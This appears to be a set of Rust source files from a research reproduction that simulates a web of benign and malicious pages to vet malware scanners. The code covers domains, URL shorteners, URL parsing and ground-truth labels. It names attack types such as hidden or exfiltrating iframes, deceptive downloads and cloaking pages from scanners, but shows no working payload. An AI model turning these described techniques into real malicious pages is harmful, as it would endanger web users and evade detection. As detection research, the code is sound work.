/// A top-level domain, with the four the paper's Figure 6 breaks out
/// explicitly plus a catch-all.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Tld {
    /// `.com` — 70% of malicious URLs in the paper.
    Com,
    /// `.net` — 22%.
    Net,
    /// `.de` — 2%.
    De,
    /// `.org` — 1%.
    Org,
    /// Everything else (shortener ccTLDs, free hosts, ...) — 5%.
    Other(String),
}

impl Tld {
    /// Extracts the TLD of a host string.
    pub fn of_host(host: &str) -> Tld {
        let label = host.rsplit('.').next().unwrap_or("").to_ascii_lowercase();
        Tld::from_label(&label)
    }

    /// Builds a `Tld` from a bare label.
    pub fn from_label(label: &str) -> Tld {
        match label {
            "com" => Tld::Com,
            "net" => Tld::Net,
            "de" => Tld::De,
            "org" => Tld::Org,
            other => Tld::Other(other.to_string()),
        }
    }

    /// The label text (`"com"`, `"net"`, ...).
    pub fn label(&self) -> &str {
        match self {
            Tld::Com => "com",
            Tld::Net => "net",
            Tld::De => "de",
            Tld::Org => "org",
            Tld::Other(s) => s,
        }
    }

    /// Bucket used for the Figure 6 breakdown: the four named TLDs map to
    /// themselves, everything else collapses to `"others"`.
    pub fn figure6_bucket(&self) -> &str {
        match self {
            Tld::Other(_) => "others",
            named => named.label(),
        }
    }
}

impl fmt::Display for Tld {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registered_domain_two_labels() {
        assert_eq!(registered_domain("example.com"), "example.com");
        assert_eq!(registered_domain("www.example.com"), "example.com");
        assert_eq!(registered_domain("a.b.c.example.net"), "example.net");
    }

    #[test]
    fn registered_domain_second_level_suffix() {
        assert_eq!(registered_domain("animestectudo.blogspot.com.br"), "blogspot.com.br");
        assert_eq!(registered_domain("deep.sub.site.co.uk"), "site.co.uk");
    }

    #[test]
    fn registered_domain_degenerate() {
        assert_eq!(registered_domain("localhost"), "localhost");
        assert_eq!(registered_domain(""), "");
    }

    #[test]
    fn free_host_subdomains_collapse_to_host() {
        // The paper lists esy.es and atw.hu as blacklisted domains; their
        // subdomain sites must map onto them.
        assert_eq!(registered_domain("badsite.esy.es"), "esy.es");
        assert_eq!(registered_domain("malware.atw.hu"), "atw.hu");
    }

    #[test]
    fn tld_classification() {
        assert_eq!(Tld::of_host("x.example.com"), Tld::Com);
        assert_eq!(Tld::of_host("x.example.net"), Tld::Net);
        assert_eq!(Tld::of_host("seite.de"), Tld::De);
        assert_eq!(Tld::of_host("npo.org"), Tld::Org);
        assert_eq!(Tld::of_host("goo.gl"), Tld::Other("gl".into()));
        assert_eq!(Tld::of_host("company.ooo"), Tld::Other("ooo".into()));
    }

    #[test]
    fn figure6_buckets() {
        assert_eq!(Tld::Com.figure6_bucket(), "com");
        assert_eq!(Tld::Other("ru".into()).figure6_bucket(), "others");
    }

    #[test]
    fn tld_case_insensitive() {
        assert_eq!(Tld::of_host("EXAMPLE.COM"), Tld::Com);
    }
}
