//! URL-shortening services with public hit statistics.
//!
//! The paper's Table IV reports, for each malicious shortened URL found
//! on the exchanges: the shortened URL's hit count, the long URL's
//! (aggregate) hit count, the top visitor country and the top referrer.
//! This module models exactly that observable surface: services register
//! short codes, resolving a code records a hit attributed to the
//! visitor's country and referrer, and the "public statistics page" is a
//! query API.

use std::collections::HashMap;

use parking_lot::Mutex;
use serde::{Deserialize, Serialize};

use crate::url::Url;

/// The shortening services observed in the paper's Table IV.
pub const SERVICES: [&str; 7] =
    ["goo.gl", "bit.ly", "j.mp", "tiny.cc", "zapit.nu", "tr.im", "mbcurl.me"];

/// Per-code statistics.
#[derive(Debug, Default, Clone, Serialize, Deserialize)]
pub struct ShortStats {
    /// Total resolutions.
    pub hits: u64,
    /// Hits by visitor country.
    pub by_country: HashMap<String, u64>,
    /// Hits by referrer domain.
    pub by_referrer: HashMap<String, u64>,
}

impl ShortStats {
    /// The country contributing the most hits.
    pub fn top_country(&self) -> Option<&str> {
        top_of(&self.by_country)
    }

    /// The referrer contributing the most hits (`None` when hits carried
    /// no referrer — rendered as "-" in Table IV).
    pub fn top_referrer(&self) -> Option<&str> {
        top_of(&self.by_referrer)
    }
}

fn top_of(map: &HashMap<String, u64>) -> Option<&str> {
    map.iter()
        .max_by_key(|(name, count)| (**count, std::cmp::Reverse(name.as_str())))
        .map(|(name, _)| name.as_str())
}

/// One registered short code.
#[derive(Debug, Clone)]
struct ShortEntry {
    target: Url,
    stats: ShortStats,
}

/// A URL-shortening service.
///
/// Thread-safe: resolution happens concurrently from crawler workers.
#[derive(Debug)]
pub struct ShortenerService {
    host: String,
    entries: Mutex<HashMap<String, ShortEntry>>,
}

impl ShortenerService {
    /// Creates an empty service at `host` (e.g. `"goo.gl"`).
    pub fn new(host: impl Into<String>) -> Self {
        ShortenerService { host: host.into(), entries: Mutex::new(HashMap::new()) }
    }

    /// The service's host name.
    pub fn host(&self) -> &str {
        &self.host
    }

    /// Registers `target` under `code` and returns the short URL.
    /// Re-registering a code overwrites its target but keeps statistics.
    pub fn register(&self, code: &str, target: Url) -> Url {
        let mut entries = self.entries.lock();
        entries
            .entry(code.to_string())
            .and_modify(|e| e.target = target.clone())
            .or_insert_with(|| ShortEntry { target, stats: ShortStats::default() });
        Url::http(&self.host, &format!("/{code}"))
    }

    /// Resolves `code`, recording a hit from `country` with `referrer`
    /// (empty referrer counts toward no referrer). Returns the target.
    pub fn resolve(&self, code: &str, country: &str, referrer: &str) -> Option<Url> {
        let mut entries = self.entries.lock();
        let entry = entries.get_mut(code)?;
        entry.stats.hits += 1;
        *entry.stats.by_country.entry(country.to_string()).or_insert(0) += 1;
        if !referrer.is_empty() {
            *entry.stats.by_referrer.entry(referrer.to_string()).or_insert(0) += 1;
        }
        Some(entry.target.clone())
    }

    /// Peeks at the target of a code without recording a hit (used by
    /// scanners following short links "offline").
    pub fn peek(&self, code: &str) -> Option<Url> {
        self.entries.lock().get(code).map(|e| e.target.clone())
    }

    /// Public statistics page for a code.
    pub fn stats(&self, code: &str) -> Option<ShortStats> {
        self.entries.lock().get(code).map(|e| e.stats.clone())
    }

    /// Aggregate hit count across every code of *this service* whose
    /// target equals `long_url`. (Table IV: "a URL may have multiple
    /// shortened URLs pointing to itself".)
    pub fn long_url_hits(&self, long_url: &Url) -> u64 {
        self.entries
            .lock()
            .values()
            .filter(|e| &e.target == long_url)
            .map(|e| e.stats.hits)
            .sum()
    }

    /// Seeds pre-existing organic traffic onto a code: `hits` visits from
    /// `country` with `referrer`. Table IV's multi-million hit counts
    /// predate the study's crawl, so the generator installs them up
    /// front.
    pub fn seed_traffic(&self, code: &str, hits: u64, country: &str, referrer: &str) {
        let mut entries = self.entries.lock();
        if let Some(entry) = entries.get_mut(code) {
            entry.stats.hits += hits;
            *entry.stats.by_country.entry(country.to_string()).or_insert(0) += hits;
            if !referrer.is_empty() {
                *entry.stats.by_referrer.entry(referrer.to_string()).or_insert(0) += hits;
            }
        }
    }

    /// All registered codes (sorted, for deterministic iteration).
    pub fn codes(&self) -> Vec<String> {
        let mut codes: Vec<String> = self.entries.lock().keys().cloned().collect();
        codes.sort();
        codes
    }
}

/// Registry of all shortening services in the simulation.
#[derive(Debug, Default)]
pub struct ShortenerRegistry {
    services: Vec<ShortenerService>,
}

impl ShortenerRegistry {
    /// Creates a registry with the paper's seven services.
    pub fn with_standard_services() -> Self {
        ShortenerRegistry {
            services: SERVICES.iter().map(|h| ShortenerService::new(*h)).collect(),
        }
    }

    /// Looks a service up by host.
    pub fn service(&self, host: &str) -> Option<&ShortenerService> {
        self.services.iter().find(|s| s.host == host)
    }

    /// All services.
    pub fn services(&self) -> &[ShortenerService] {
        &self.services
    }

    /// True when `host` is a known shortening service.
    pub fn is_shortener_host(&self, host: &str) -> bool {
        self.services.iter().any(|s| s.host == host)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn target() -> Url {
        Url::parse("http://longsite.example.com/landing").unwrap()
    }

    #[test]
    fn register_and_resolve_records_stats() {
        let svc = ShortenerService::new("goo.gl");
        let short = svc.register("VAdNHA", target());
        assert_eq!(short.to_string(), "http://goo.gl/VAdNHA");
        for _ in 0..3 {
            assert_eq!(svc.resolve("VAdNHA", "Brazil", "torrentcompleto.example"), Some(target()));
        }
        svc.resolve("VAdNHA", "USA", "10khits.example");
        let stats = svc.stats("VAdNHA").unwrap();
        assert_eq!(stats.hits, 4);
        assert_eq!(stats.top_country(), Some("Brazil"));
        assert_eq!(stats.top_referrer(), Some("torrentcompleto.example"));
    }

    #[test]
    fn unknown_code_resolves_none() {
        let svc = ShortenerService::new("bit.ly");
        assert_eq!(svc.resolve("nope", "USA", ""), None);
        assert!(svc.stats("nope").is_none());
    }

    #[test]
    fn peek_does_not_count() {
        let svc = ShortenerService::new("tiny.cc");
        svc.register("abc", target());
        svc.peek("abc");
        svc.peek("abc");
        assert_eq!(svc.stats("abc").unwrap().hits, 0);
    }

    #[test]
    fn long_url_hits_aggregate_across_codes() {
        let svc = ShortenerService::new("goo.gl");
        svc.register("a1", target());
        svc.register("a2", target());
        svc.register("other", Url::parse("http://elsewhere.example/").unwrap());
        svc.resolve("a1", "USA", "");
        svc.resolve("a2", "USA", "");
        svc.resolve("a2", "USA", "");
        svc.resolve("other", "USA", "");
        assert_eq!(svc.long_url_hits(&target()), 3);
    }

    #[test]
    fn empty_referrer_not_counted() {
        let svc = ShortenerService::new("tr.im");
        svc.register("x", target());
        svc.resolve("x", "USA", "");
        assert_eq!(svc.stats("x").unwrap().top_referrer(), None);
    }

    #[test]
    fn seeded_traffic_shows_in_stats() {
        let svc = ShortenerService::new("j.mp");
        svc.register("1ERFrgM", target());
        svc.seed_traffic("1ERFrgM", 3_746_850, "USA", "tourseoul.ad-button.example");
        let stats = svc.stats("1ERFrgM").unwrap();
        assert_eq!(stats.hits, 3_746_850);
        assert_eq!(stats.top_referrer(), Some("tourseoul.ad-button.example"));
    }

    #[test]
    fn registry_has_standard_services() {
        let reg = ShortenerRegistry::with_standard_services();
        for host in SERVICES {
            assert!(reg.is_shortener_host(host), "{host} missing");
            assert!(reg.service(host).is_some());
        }
        assert!(!reg.is_shortener_host("example.com"));
    }

    #[test]
    fn reregistering_keeps_stats_changes_target() {
        let svc = ShortenerService::new("goo.gl");
        svc.register("c", target());
        svc.resolve("c", "USA", "");
        let new_target = Url::parse("http://new.example/").unwrap();
        svc.register("c", new_target.clone());
        assert_eq!(svc.stats("c").unwrap().hits, 1);
        assert_eq!(svc.peek("c"), Some(new_target));
    }

    #[test]
    fn top_of_tie_breaks_deterministically() {
        let svc = ShortenerService::new("goo.gl");
        svc.register("t", target());
        svc.resolve("t", "Brazil", "");
        svc.resolve("t", "USA", "");
        // Tie at 1–1: alphabetically-first name wins via Reverse ordering.
        assert_eq!(svc.stats("t").unwrap().top_country(), Some("Brazil"));
    }
}
