//! # slum-websim
//!
//! A deterministic synthetic-web substrate for the `malware-slums`
//! reproduction of *Malware Slums: Measurement and Analysis of Malware on
//! Traffic Exchanges* (DSN 2016).
//!
//! The original study measured the live 2015 web through nine traffic
//! exchanges. That web no longer exists, so this crate *generates* one:
//! domains, pages with real (inert) HTML/JS/Flash payloads, redirect
//! chains, URL-shortening services with public hit statistics, and
//! cloaking behaviour — all seeded and reproducible, and all calibrated
//! to the marginal distributions the paper publishes.
//!
//! Downstream crates treat [`SyntheticWeb`] exactly like an HTTP
//! substrate: [`SyntheticWeb::fetch`] takes a URL plus a
//! [`RequestContext`] (who is asking: a real browser or a scanner API)
//! and returns a [`FetchOutcome`]. Every generated page carries a
//! [`GroundTruth`] label, which is what lets the reproduction *vet*
//! detection tooling the way the paper did.
//!
//! ## Example
//!
//! ```
//! use slum_websim::{build::WebBuilder, RequestContext};
//!
//! let mut builder = WebBuilder::new(42);
//! let site = builder.benign_site(Default::default());
//! let web = builder.finish();
//! let outcome = web.fetch(&site.url, &RequestContext::browser());
//! assert!(outcome.is_html());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod build;
pub mod content;
pub mod domain;
pub mod hash;
pub mod page;
pub mod params;
pub mod payload;
pub mod rng;
pub mod server;
pub mod shortener;
pub mod url;

pub use content::ContentCategory;
pub use domain::Tld;
pub use page::{FalsePositiveKind, GroundTruth, JsAttack, MaliceKind, Page};
pub use server::{ClientKind, FetchOutcome, RequestContext, Resource, SyntheticWeb};
pub use url::Url;
