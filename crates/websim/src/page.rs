//! Page model and ground-truth labels.

use serde::{Deserialize, Serialize};

use crate::content::ContentCategory;
use crate::url::Url;

/// The specific JavaScript attack a malicious-JS page carries. Mirrors
/// the behaviours the paper documents in §IV-A1 and §V.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum JsAttack {
    /// Static hidden `iframe` (1×1 dimensions) in the HTML.
    HiddenIframe,
    /// Invisible `iframe` (CSS/transparency) that exfiltrates data via
    /// query-string parameters.
    InvisibleIframeExfil,
    /// `iframe` injected dynamically through `document.write` /
    /// `createElement`.
    DynamicIframe,
    /// Fake download prompt pushing a deceptively named executable.
    DeceptiveDownload,
    /// User-behaviour fingerprinting (mouse-movement recording).
    Fingerprinting,
}

/// Why a benign page *looks* suspicious — the paper's §V-E false
/// positives.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FalsePositiveKind {
    /// Google OAuth `postmessageRelay` iframe: 1×1, off-screen.
    GoogleOauthRelay,
    /// Google Analytics bootstrap mislabeled as Faceliker.
    GoogleAnalytics,
}

/// The malware category a page belongs to, following the paper's
/// Table III taxonomy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum MaliceKind {
    /// Host appears on multiple public blacklists.
    Blacklisted,
    /// Malicious JavaScript payload.
    MaliciousJs(JsAttack),
    /// Malicious Flash object (`ExternalInterface` abuse).
    MaliciousFlash,
    /// Server-side redirection to an undesirable destination.
    SuspiciousRedirect,
    /// Malicious target hidden behind a shortened URL.
    MaliciousShortened,
    /// Detected malicious but without category detail (the paper's
    /// "miscellaneous" bucket — 142,405 of 214,527 malicious URLs).
    Misc,
}

impl MaliceKind {
    /// Table III row label.
    pub fn table3_label(self) -> &'static str {
        match self {
            MaliceKind::Blacklisted => "Blacklisted",
            MaliceKind::MaliciousJs(_) => "Malicious JavaScript",
            MaliceKind::SuspiciousRedirect => "Suspicious Redirection",
            MaliceKind::MaliciousShortened => "Malicious Shortened URLs",
            MaliceKind::MaliciousFlash => "Malicious Flash",
            MaliceKind::Misc => "Miscellaneous",
        }
    }
}

/// Ground-truth label carried by every generated page. This is the
/// simulation's oracle: scanners never see it; the vetting harness and
/// shape assertions do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum GroundTruth {
    /// Ordinary benign content.
    Benign,
    /// Benign content that structurally resembles malware (§V-E).
    BenignSuspicious(FalsePositiveKind),
    /// Malicious content of the given category.
    Malicious(MaliceKind),
}

impl GroundTruth {
    /// True for either malicious variant.
    pub fn is_malicious(self) -> bool {
        matches!(self, GroundTruth::Malicious(_))
    }

    /// The malice kind, if malicious.
    pub fn malice_kind(self) -> Option<MaliceKind> {
        match self {
            GroundTruth::Malicious(k) => Some(k),
            _ => None,
        }
    }
}

/// A generated web page.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Page {
    /// Canonical URL the page is served at.
    pub url: Url,
    /// Full HTML markup.
    pub html: String,
    /// Ground-truth label (simulation oracle).
    pub truth: GroundTruth,
    /// Content category (drives the Figure 7 breakdown).
    pub category: ContentCategory,
    /// When set, scanner-API clients are served this benign variant
    /// instead of `html` — the cloaking behaviour the paper defeats by
    /// uploading crawler-captured content.
    pub cloaked_benign_html: Option<String>,
}

impl Page {
    /// Creates a benign page.
    pub fn benign(url: Url, html: String, category: ContentCategory) -> Page {
        Page { url, html, truth: GroundTruth::Benign, category, cloaked_benign_html: None }
    }

    /// Creates a malicious page.
    pub fn malicious(url: Url, html: String, kind: MaliceKind, category: ContentCategory) -> Page {
        Page {
            url,
            html,
            truth: GroundTruth::Malicious(kind),
            category,
            cloaked_benign_html: None,
        }
    }

    /// Enables cloaking with the given benign variant.
    pub fn with_cloak(mut self, benign_html: String) -> Page {
        self.cloaked_benign_html = Some(benign_html);
        self
    }

    /// True when this page cloaks itself from scanners.
    pub fn is_cloaked(&self) -> bool {
        self.cloaked_benign_html.is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url() -> Url {
        Url::http("example.com", "/")
    }

    #[test]
    fn truth_predicates() {
        assert!(!GroundTruth::Benign.is_malicious());
        assert!(!GroundTruth::BenignSuspicious(FalsePositiveKind::GoogleAnalytics).is_malicious());
        assert!(GroundTruth::Malicious(MaliceKind::Blacklisted).is_malicious());
        assert_eq!(
            GroundTruth::Malicious(MaliceKind::Misc).malice_kind(),
            Some(MaliceKind::Misc)
        );
        assert_eq!(GroundTruth::Benign.malice_kind(), None);
    }

    #[test]
    fn cloaking_setup() {
        let p = Page::malicious(
            url(),
            "<html>evil</html>".into(),
            MaliceKind::MaliciousJs(JsAttack::HiddenIframe),
            ContentCategory::Business,
        )
        .with_cloak("<html>nothing to see</html>".into());
        assert!(p.is_cloaked());
        assert!(p.truth.is_malicious());
    }

    #[test]
    fn table3_labels_match_paper() {
        assert_eq!(MaliceKind::Blacklisted.table3_label(), "Blacklisted");
        assert_eq!(
            MaliceKind::MaliciousJs(JsAttack::DynamicIframe).table3_label(),
            "Malicious JavaScript"
        );
        assert_eq!(MaliceKind::SuspiciousRedirect.table3_label(), "Suspicious Redirection");
        assert_eq!(MaliceKind::MaliciousShortened.table3_label(), "Malicious Shortened URLs");
        assert_eq!(MaliceKind::MaliciousFlash.table3_label(), "Malicious Flash");
    }
}
