//! Content categories for the Figure 7 breakdown.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Content category of a site, following the paper's Figure 7 taxonomy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum ContentCategory {
    /// Online shopping, payments, financial services — 58.6% of malicious
    /// URLs in the paper.
    Business,
    /// Advertisement networks and landing pages — 21.8%.
    Advertisement,
    /// Free streaming, games, URL shorteners offering "products" — 8.7%.
    Entertainment,
    /// Hosting, free proxies — 8.6%.
    InformationTechnology,
    /// Everything else — 2.6%.
    Other,
}

impl ContentCategory {
    /// All categories in Figure 7 order.
    pub const ALL: [ContentCategory; 5] = [
        ContentCategory::Business,
        ContentCategory::Advertisement,
        ContentCategory::Entertainment,
        ContentCategory::InformationTechnology,
        ContentCategory::Other,
    ];

    /// Human-readable label as printed in the paper.
    pub fn label(self) -> &'static str {
        match self {
            ContentCategory::Business => "Business",
            ContentCategory::Advertisement => "Advertisement",
            ContentCategory::Entertainment => "Entertainment",
            ContentCategory::InformationTechnology => "Information Technology",
            ContentCategory::Other => "Others",
        }
    }

    /// Paper-reported share of malicious URLs (Figure 7), as a fraction.
    pub fn paper_share(self) -> f64 {
        match self {
            ContentCategory::Business => 0.586,
            ContentCategory::Advertisement => 0.218,
            ContentCategory::Entertainment => 0.087,
            ContentCategory::InformationTechnology => 0.086,
            ContentCategory::Other => 0.026,
        }
    }
}

impl fmt::Display for ContentCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shares_sum_to_one_modulo_paper_rounding() {
        // The paper's Figure 7 values sum to 100.3% due to rounding in
        // the original; allow that slack.
        let total: f64 = ContentCategory::ALL.iter().map(|c| c.paper_share()).sum();
        assert!((total - 1.0).abs() < 0.005, "shares sum to {total}");
    }

    #[test]
    fn labels_are_distinct() {
        let labels: std::collections::BTreeSet<_> =
            ContentCategory::ALL.iter().map(|c| c.label()).collect();
        assert_eq!(labels.len(), ContentCategory::ALL.len());
    }

    #[test]
    fn business_is_largest() {
        for c in ContentCategory::ALL {
            assert!(ContentCategory::Business.paper_share() >= c.paper_share());
        }
    }
}
