//! A small URL type sufficient for the crawl/scan pipeline.

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

/// URL scheme.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Scheme {
    /// `http://`
    Http,
    /// `https://`
    Https,
    /// `data:` URI (deceptive-download payloads embed these).
    Data,
}

impl Scheme {
    /// Canonical lower-case scheme text, without the separator.
    pub fn as_str(self) -> &'static str {
        match self {
            Scheme::Http => "http",
            Scheme::Https => "https",
            Scheme::Data => "data",
        }
    }
}

/// A parsed URL.
///
/// Invariants: `host` is lower-case and non-empty for http(s) URLs;
/// `path` always starts with `/` for http(s) URLs.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Url {
    scheme: Scheme,
    host: String,
    path: String,
    query: Option<String>,
    /// For `data:` URIs the payload lives here and `host`/`path` are empty.
    data: Option<String>,
}

/// Error returned when a URL cannot be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseUrlError {
    /// What went wrong.
    pub reason: String,
}

impl fmt::Display for ParseUrlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid url: {}", self.reason)
    }
}

impl std::error::Error for ParseUrlError {}

impl Url {
    /// Parses a URL string.
    ///
    /// # Errors
    ///
    /// Returns [`ParseUrlError`] when the scheme is unsupported or the
    /// host is empty.
    ///
    /// ```
    /// use slum_websim::Url;
    /// let u: Url = "http://Example.COM/a/b?q=1".parse().unwrap();
    /// assert_eq!(u.host(), "example.com");
    /// assert_eq!(u.path(), "/a/b");
    /// assert_eq!(u.query(), Some("q=1"));
    /// ```
    pub fn parse(s: &str) -> Result<Url, ParseUrlError> {
        let s = s.trim();
        if let Some(data) = s.strip_prefix("data:") {
            return Ok(Url {
                scheme: Scheme::Data,
                host: String::new(),
                path: String::new(),
                query: None,
                data: Some(data.to_string()),
            });
        }
        let (scheme, rest) = if let Some(r) = s.strip_prefix("http://") {
            (Scheme::Http, r)
        } else if let Some(r) = s.strip_prefix("https://") {
            (Scheme::Https, r)
        } else if let Some(r) = s.strip_prefix("//") {
            // Protocol-relative — default to http.
            (Scheme::Http, r)
        } else {
            return Err(ParseUrlError { reason: format!("unsupported scheme in {s:?}") });
        };
        // The authority ends at the first `/` or `?` — `http://h?q=1`
        // has a root path and a query.
        let (host_port, path, query) = match rest.find(['/', '?']) {
            Some(i) if rest.as_bytes()[i] == b'?' => {
                (&rest[..i], "/".to_string(), Some(rest[i + 1..].to_string()))
            }
            Some(i) => {
                let path_query = &rest[i..];
                match path_query.split_once('?') {
                    Some((p, q)) => (&rest[..i], p.to_string(), Some(q.to_string())),
                    None => (&rest[..i], path_query.to_string(), None),
                }
            }
            None => (rest, "/".to_string(), None),
        };
        // Strip any port; the simulation is port-less.
        let host = host_port.split(':').next().unwrap_or("").to_ascii_lowercase();
        if host.is_empty() {
            return Err(ParseUrlError { reason: format!("empty host in {s:?}") });
        }
        if !host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-') {
            return Err(ParseUrlError { reason: format!("bad host {host:?}") });
        }
        Ok(Url { scheme, host, path, query, data: None })
    }

    /// Builds an http URL from parts; panics on invalid host (intended
    /// for generator-internal construction from trusted parts).
    ///
    /// # Panics
    ///
    /// Panics if `host` is empty.
    pub fn http(host: &str, path: &str) -> Url {
        assert!(!host.is_empty(), "host must be non-empty");
        let path = if path.starts_with('/') { path.to_string() } else { format!("/{path}") };
        let (path, query) = match path.split_once('?') {
            Some((p, q)) => (p.to_string(), Some(q.to_string())),
            None => (path, None),
        };
        Url { scheme: Scheme::Http, host: host.to_ascii_lowercase(), path, query, data: None }
    }

    /// The scheme.
    pub fn scheme(&self) -> Scheme {
        self.scheme
    }

    /// Lower-cased host (empty for `data:` URIs).
    pub fn host(&self) -> &str {
        &self.host
    }

    /// Path component (always `/`-prefixed for http/https).
    pub fn path(&self) -> &str {
        &self.path
    }

    /// Query string without the leading `?`, if present.
    pub fn query(&self) -> Option<&str> {
        self.query.as_deref()
    }

    /// Payload of a `data:` URI.
    pub fn data_payload(&self) -> Option<&str> {
        self.data.as_deref()
    }

    /// True for `data:` URIs.
    pub fn is_data(&self) -> bool {
        self.scheme == Scheme::Data
    }

    /// The registered domain: normally the last two labels
    /// (`a.b.example.com` → `example.com`), extended to three for
    /// country-code second-level suffixes (`x.blogspot.com.br` →
    /// `blogspot.com.br`).
    pub fn registered_domain(&self) -> String {
        crate::domain::registered_domain(&self.host)
    }

    /// The top-level domain label.
    pub fn tld(&self) -> crate::domain::Tld {
        crate::domain::Tld::of_host(&self.host)
    }

    /// Canonical string form — identical inputs always canonicalize
    /// identically, which the crawler relies on for dedup.
    pub fn canonical(&self) -> String {
        self.to_string()
    }

    /// Returns a copy with a different path/query.
    pub fn with_path(&self, path: &str) -> Url {
        let mut u = self.clone();
        let path = if path.starts_with('/') { path.to_string() } else { format!("/{path}") };
        let (path, query) = match path.split_once('?') {
            Some((p, q)) => (p.to_string(), Some(q.to_string())),
            None => (path, None),
        };
        u.path = path;
        u.query = query;
        u
    }
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if let Some(data) = &self.data {
            return write!(f, "data:{data}");
        }
        write!(f, "{}://{}{}", self.scheme.as_str(), self.host, self.path)?;
        if let Some(q) = &self.query {
            write!(f, "?{q}")?;
        }
        Ok(())
    }
}

impl FromStr for Url {
    type Err = ParseUrlError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Url::parse(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_basic_forms() {
        let u = Url::parse("http://example.com").unwrap();
        assert_eq!(u.host(), "example.com");
        assert_eq!(u.path(), "/");
        assert_eq!(u.query(), None);

        let u = Url::parse("https://a.b.example.net/x/y?k=v&k2=v2").unwrap();
        assert_eq!(u.scheme(), Scheme::Https);
        assert_eq!(u.path(), "/x/y");
        assert_eq!(u.query(), Some("k=v&k2=v2"));
    }

    #[test]
    fn host_is_lowercased() {
        let u = Url::parse("http://EXAMPLE.Com/P").unwrap();
        assert_eq!(u.host(), "example.com");
        // Paths stay case-sensitive.
        assert_eq!(u.path(), "/P");
    }

    #[test]
    fn port_is_stripped() {
        let u = Url::parse("http://example.com:8080/x").unwrap();
        assert_eq!(u.host(), "example.com");
    }

    #[test]
    fn protocol_relative_defaults_http() {
        let u = Url::parse("//cdn.example.com/lib.js").unwrap();
        assert_eq!(u.scheme(), Scheme::Http);
        assert_eq!(u.host(), "cdn.example.com");
    }

    #[test]
    fn data_uri() {
        let u = Url::parse("data:text/html,%3Chtml%3E").unwrap();
        assert!(u.is_data());
        assert_eq!(u.data_payload(), Some("text/html,%3Chtml%3E"));
    }

    #[test]
    fn rejects_garbage() {
        assert!(Url::parse("ftp://example.com").is_err());
        assert!(Url::parse("http://").is_err());
        assert!(Url::parse("not a url").is_err());
        assert!(Url::parse("http://bad host/").is_err());
    }

    #[test]
    fn display_round_trip() {
        for s in [
            "http://example.com/",
            "https://a.example.net/x?y=1",
            "http://goo.gl/VAdNHA",
        ] {
            let u = Url::parse(s).unwrap();
            let re = Url::parse(&u.to_string()).unwrap();
            assert_eq!(u, re);
        }
    }

    #[test]
    fn registered_domain_and_tld() {
        let u = Url::parse("http://sub.deep.example.com/x").unwrap();
        assert_eq!(u.registered_domain(), "example.com");
        assert_eq!(u.tld().label(), "com");

        let u = Url::parse("http://animestectudo.blogspot.com.br/").unwrap();
        assert_eq!(u.registered_domain(), "blogspot.com.br");
    }

    #[test]
    fn with_path_replaces_query_too() {
        let u = Url::parse("http://example.com/a?old=1").unwrap();
        let v = u.with_path("/b?new=2");
        assert_eq!(v.path(), "/b");
        assert_eq!(v.query(), Some("new=2"));
        assert_eq!(v.host(), "example.com");
    }

    #[test]
    fn http_constructor_normalizes() {
        let u = Url::http("EXAMPLE.com", "page?x=1");
        assert_eq!(u.to_string(), "http://example.com/page?x=1");
    }
}
