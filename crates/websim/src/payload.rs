//! HTML/JS payload builders.
//!
//! Every page the synthetic web serves is assembled here. Malicious
//! payloads implement the behaviours documented in the paper's case
//! studies (§V) — hidden/invisible/JS-injected iframes, deceptive
//! downloads, rotating redirectors, Flash click-jacking — and the benign
//! pages include the two structures the paper found to trip scanners as
//! false positives (Google OAuth relay iframe, Google Analytics
//! bootstrap). All payloads are synthetic and inert by construction:
//! hosts live under reserved example TLDs inside the simulation only.

use crate::content::ContentCategory;
use crate::url::Url;
use slum_js::obfuscate::pack_layers;

/// Wraps body markup in a minimal page shell.
fn shell(title: &str, body: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><title>{title}</title></head><body>{body}</body></html>"
    )
}

/// A benign content page with an ad placeholder (the raison d'être of
/// traffic-exchange listings: harvesting ad impressions).
pub fn benign_page(site_name: &str, category: ContentCategory) -> String {
    let blurb = match category {
        ContentCategory::Business => "Great deals on electronics, payments made simple.",
        ContentCategory::Advertisement => "Sponsored offers selected for you.",
        ContentCategory::Entertainment => "Free streaming, games and more.",
        ContentCategory::InformationTechnology => "Cheap hosting and free web proxy service.",
        ContentCategory::Other => "Welcome to our home page.",
    };
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>{blurb}</p>
<div class="ad-slot" data-network="adhitz"><a href="http://ads.adhitz-net.example/click?pub={site_name}">advertisement</a></div>
<p>Thanks for visiting {site_name}. Earn credits by surfing more pages.</p>"#
        ),
    )
}

/// §V-A category one: a barely visible 1×1 iframe used for cross-site
